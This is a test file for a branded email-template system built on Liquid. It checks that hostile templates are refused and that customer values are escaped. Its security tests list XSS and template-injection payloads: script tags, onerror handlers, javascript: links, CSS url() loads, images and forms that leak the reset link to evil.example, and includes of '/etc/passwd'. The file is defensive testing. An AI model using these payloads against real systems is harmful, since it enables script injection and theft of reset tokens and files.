import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import { testBase } from '../../../../test/base.ts';
import type { Base } from '../../../base/base.ts';
import { isProblem } from '../../../base/errors.ts';
import { languages } from '../../../base/languages.ts';
import { type Brand, createBrand, updateBrand } from '../../brands/brands.ts';
import type { MailContent, MailKind } from '../mail-content.ts';
import { post } from '../post.ts';
import { checkTemplate, type TemplateDraft } from './check-template.ts';
import { composeOwn, startingTemplate } from './compose-own.ts';
import { mailKinds } from './kinds.ts';
import { previewMail, removeMailTemplate, saveMailTemplate, writeMail } from './mail-templates.ts';

let base: Base;
let brand: Brand;
before(async () => {
  base = await testBase();
  brand = await createBrand(base, {
    slug: 'lumiere',
    name: 'Lumière & <Fils>',
    logo_url: 'https://cdn.example.com/logo.png',
    support_url: 'https://example.com/help?a=1&b=2',
    theme: { primary: '#ffd700' },
  });
});
after(() => base.close());

const link = 'http://localhost:4000/u/reset-password?a=1&ticket=q7Rk2mWx9Tz4bN1v';
const good: TemplateDraft = {
  subject: 'Hello from {{ brand }}',
  html: '<p style="color: {{ colours.ink }}">Hello</p><a href="{{ link }}">Choose a new password</a>',
  text: 'Hello! {{ link }}',
};
const goodCode: TemplateDraft = { subject: 'A code', html: '<p>{{ code }}</p>', text: '{{ code }}' };

/** What is wrong with a template of this mail: the part, and the sentence. */
function wrong(part: Partial<TemplateDraft>, kind: MailKind = 'reset_password'): { part: unknown; sentence: string } {
  try {
    checkTemplate(kind, { ...(kind === 'reset_password' ? good : goodCode), ...part });
  } catch (error) {
    assert.ok(isProblem(error, 'invalid_body'), String(error));
    return { part: error.extra.part, sentence: String(error.extra.sentence) };
  }
  return { part: undefined, sentence: '' };
}

test('every mail of ours, as a template to begin from, is taken as it is and says the same', () => {
  for (const kind of mailKinds.keys()) {
    for (const language of languages) {
      const which = { brand, kind, language };
      const draft = startingTemplate(brand, language, kind);
      const own = previewMail(base, which, draft);
      assert.ok(own.html.includes('Lumière &amp; &lt;Fils&gt;'), `${kind} ${language}`);
      assert.ok(own.html.includes('https://cdn.example.com/logo.png') && own.html.includes('background:#f4f2ee'));
      assert.ok(!/\{\{|\}\}|\{%/.test(`${own.subject}${own.html}${own.text}`), 'nothing is left of Liquid');
    }
  }
});

test('a mail is written by the template that replaces it, and by ours again when that is taken away', async () => {
  const which = { brand, kind: 'reset_password', language: 'en' } as const;
  const content: MailContent = { kind: 'reset_password', link };
  const ours = await writeMail(base.db, brand, 'en', content);
  await saveMailTemplate(base, which, good);
  const own = await writeMail(base.db, brand, 'en', content);
  assert.equal(own.subject, 'Hello from Lumière & <Fils>');
  assert.equal(own.text, `Hello! ${link}`);
  assert.ok(own.html.includes(`<a href="${link.replace('&', '&amp;')}">`));
  assert.deepEqual(await writeMail(base.db, brand, 'de', content), await writeMail(base.db, brand, 'de', content));
  assert.notEqual((await writeMail(base.db, brand, 'de', content)).subject, own.subject, 'only in its language');
  await saveMailTemplate(base, which, { ...good, subject: 'Another' });
  assert.equal((await writeMail(base.db, brand, 'en', content)).subject, 'Another');
  await removeMailTemplate(base, which);
  assert.deepEqual(await writeMail(base.db, brand, 'en', content), ours);
});

test('a template that loses what the mail is for, or cannot be read, is refused with a sentence at the part', () => {
  const refused: [Partial<TemplateDraft>, string, RegExp, MailKind?][] = [
    [{ html: '<p>Hello</p>' }, 'html', /for its link: put <a href="\{\{ link \}\}"> into it/],
    [{ html: '<p>{{ link }}</p>' }, 'html', /for its link/],
    [{ text: 'Hello' }, 'text', /put \{\{ link \}\} into it/],
    [{ html: '<img alt="{{ code }}">' }, 'html', /for its code/, 'sign_in_code'],
    [{ subject: '{{ code }}' }, 'subject', /locked screens/, 'sign_in_code'],
    [{ subject: '{{ link }}' }, 'subject', /locked screens/],
    [{ text: '{{ code | upcase }}' }, 'text', /by itself, without filters/, 'sign_in_code'],
    [{ html: '<p>{{ code | truncate: 3 }}{{ code }}</p>' }, 'html', /without filters/, 'sign_in_code'],
    [{ text: '{{ link }} {{ nickname }}' }, 'text', /There is no \{\{ nickname \}\} in this mail/],
    [{ subject: '{{ colours.nothing }}' }, 'subject', /There is no \{\{ colours.nothing \}\}/],
    [{ html: `${good.html}{% if brand %}` }, 'html', /not closed/],
    [{ html: `${good.html}{{ brand` }, 'html', /not closed/],
    [{ text: '{{ link }}{% for x in (1..9) %}x{% endfor %}' }, 'text', /\{% for %\} cannot be used/],
    [{ text: '{{ link }}{{ brand | no_such }}' }, 'text', /no_such/],
  ];
  for (const [draft, part, sentence, kind] of refused) {
    const found = wrong(draft, kind);
    assert.equal(found.part, part, `${JSON.stringify(draft)}: ${found.sentence}`);
    assert.match(found.sentence, sentence);
  }
  const hidden = { ...good, html: '{% comment %}<a href="{{ link }}">x</a>{% endcomment %}' };
  assert.throws(
    () => previewMail(base, { brand, kind: 'reset_password', language: 'en' }, hidden),
    /did not show the link/,
  );
});

test('security row 18: no script, no handler, no frame, no form and no style that loads can stand in a template', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://a.example/x" onerror="alert(1)">',
    '<img/src="https://a.example/x"/onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href=`https://x`>x</a>',
    '<svg onload=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext></mtext></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img alt="</title><img src=https://evil.example>"></title>',
    `<title><img alt='</title><img src="https://evil.example/{{ link }}">'></title>`,
    `<title>{% if brand %}</title>{% endif %}<img alt='</title><img src="https://evil.example/{{ link }}">'>`,
    '<title>{{ brand }}',
    '<template><script>alert(1)</script></template>',
    '<p style="background:url(https://evil.example)">x</p>',
    '<p style="background:\\75rl(https://evil.example)">x</p>',
    '<p style="background:&#117;rl(https://evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<style>@import "https://evil.example";</style>',
    '<style>p { background: image-set("https://evil.example" 1x) }</style>',
    '<style></styl</style><script>alert(1)</script>',
    '<p title="{{ brand }}',
    '<p title={{ brand }}>x</p>',
    '<p {{ brand }}>x</p>',
    '<{{ brand }}>x',
    '<p{{ brand }}>x</p>',
    '<a href="{{ brand }}">x</a>',
    '<a href="https://evil.example/?{{ link }}">x</a>',
    '<img src="https://evil.example/{{ link }}">',
    '<img src="{{ link }}">',
    '<p style="{{ brand }}">x</p>',
    '<p id="{{ brand }}">x</p>',
    '<p title="{% if brand %}x" onclick="y{% endif %}">x</p>',
    '<p {% if brand %}onclick{% else %}title{% endif %}="x">x</p>',
    '{% if brand %}<p title="{% endif %}{{ brand }}">x</p>',
    '<!-- {{ brand }} -->',
    '<!--> <script>alert(1)</script> -->',
    '<!-- a --!> <script>alert(1)</script> -->',
    '<![CDATA[ <script>alert(1)</script> ]]>',
    '<?xml version="1.0"?>',
    '</script>',
    '<p/onclick="x">x</p>',
    '<p title="a"onclick="x">x</p>',
    '1 < 2',
    '{{ "<script>" | raw }}',
    '{% raw %}<script>{% endraw %}',
    '{% assign link = brand %}',
    '{% capture link %}https://evil.example{% endcapture %}',
    '{% render "mails/html" %}',
    '{% include "/etc/passwd" %}',
    '{% layout "../../keys" %}',
    '{% liquid echo brand %}',
    '{{ brand.constructor }}',
    '{{ constructor }}',
    '{{ __proto__ }}',
    '\uE000',
  ];
  for (const attack of attacks) {
    const found = wrong({ html: `${good.html}${attack}` });
    assert.equal(found.part, 'html', `${attack} is taken`);
    assert.ok(found.sentence.length > 10);
  }
  for (const fine of [
    '<!doctype html><html lang="en"><head><title>{{ brand }}</title><style>p { color: #fff } @media (max-width: 9px) { p { margin: 0 } }</style></head><body><p>x</p></body></html>',
    '<!--[if mso]> words <![endif]-->',
    '<a href="mailto:care@shop.example">x</a><br><hr/><img src="https://cdn.example/a.png" alt="{{ brand }}">',
    "<p title='a > b'>1 &lt; 2 {{ brand | upcase | escape }}</p>",
    '{% if logo_url %}<img src="{{ logo_url }}" height=40>{% else %}<b>{{ brand }}</b>{% endif %}',
  ]) {
    assert.deepEqual(wrong({ html: `${good.html}${fine}` }), { part: undefined, sentence: '' }, fine);
  }
});

test('security row 18: a value of a customer is text wherever it stands, never markup and never Liquid', () => {
  const template: TemplateDraft = {
    subject: 'Passkey {{ name }}',
    html: '<p title="{{ name }}">{{ name }} {{ name | upcase }} {% if name %}{{ name | default: "x" }}{% endif %}</p>',
    text: '{{ name }}',
  };
  checkTemplate('passkey_added', template);
  const shape = (html: string) => html.replace(/[^<>"]+/g, '');
  const plain = composeOwn(template, brand, 'en', { kind: 'passkey_added', name: 'x' });
  const evil = fc.oneof(
    fc.string({ maxLength: 200, unit: 'binary' }),
    fc
      .array(
        fc.constantFrom('<', '>', '"', "'", '`', '=', '{{', '}}', '{%', '%}', ' code ', '<script>', '-->', '\n', '&'),
      )
      .map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(evil, (name) => {
      const mail = composeOwn(template, brand, 'en', { kind: 'passkey_added', name });
      assert.equal(mail.templateError, undefined);
      assert.equal(shape(mail.html), shape(plain.html));
      assert.ok(!/[\r\n]/.test(mail.subject));
    }),
    { numRuns: 500 },
  );
  const said = composeOwn(template, brand, 'en', { kind: 'passkey_added', name: '{{ brand }}{% if true %}' });
  assert.ok(said.text === '{{ brand }}{% if true %}', 'what looks like Liquid in a value is not filled in');
});

test('security row 11: nothing is fetched and no file is read for a template', () => {
  for (const source of ['{% render "text" %}', '{% include "package.json" %}', '{% layout "html" %}']) {
    assert.equal(wrong({ text: `{{ link }}${source}` }).part, 'text');
  }
});

test('a template that takes too long or too much is refused', () => {
  const deep = '{% if brand %}'.repeat(20_000);
  assert.equal(wrong({ text: `{{ link }}${deep}` }).part, 'text');
  const long = `{{ brand ${'| append: brand '.repeat(3000)} }}`;
  assert.equal(wrong({ text: `{{ link }}${long}` }).part, undefined);
  assert.ok(
    composeOwn({ ...good, text: `{{ link }}${long}` }, brand, 'en', { kind: 'reset_password', link }).text.includes(
      link,
    ),
  );
});

test('should a template fail or lose the code for one customer, ours is sent, and the outbox says why', async () => {
  const which = { brand, kind: 'verify_email', language: 'en' } as const;
  const draft: TemplateDraft = {
    subject: 'Is it you?',
    html: '{% unless address == "bob@example.com" %}<a href="{{ link }}">x</a>{% endunless %}',
    text: '{{ link }}',
  };
  await saveMailTemplate(base, which, draft);
  const send = (to: string) =>
    post(base, base.db, { to, asked: { brand, language: 'en' }, content: { kind: 'verify_email', link, address: to } });
  await send('ada@example.com');
  await send('bob@example.com');
  const rows = await base.db.selectFrom('outbox').selectAll().orderBy('recipient').execute();
  assert.deepEqual(
    rows.map((row) => row.template_error),
    [null, 'The template did not show the link.'],
  );
  assert.equal(rows[0]?.subject, 'Is it you?');
  assert.ok(rows[1]?.body_html.includes('ticket=') && rows[1].subject.includes('Lumière'));
  assert.deepEqual(rows[0]?.secrets, ['q7Rk2mWx9Tz4bN1v']);
});

test('the theme of today is in the mail of today', async () => {
  const which = { brand, kind: 'erased', language: 'en' } as const;
  await saveMailTemplate(base, which, startingTemplate(brand, 'en', 'erased'));
  const later = await updateBrand(base, brand.id, { theme: { background: '#123456' } });
  assert.ok((await writeMail(base.db, later, 'en', { kind: 'erased' })).html.includes('background:#123456'));
});
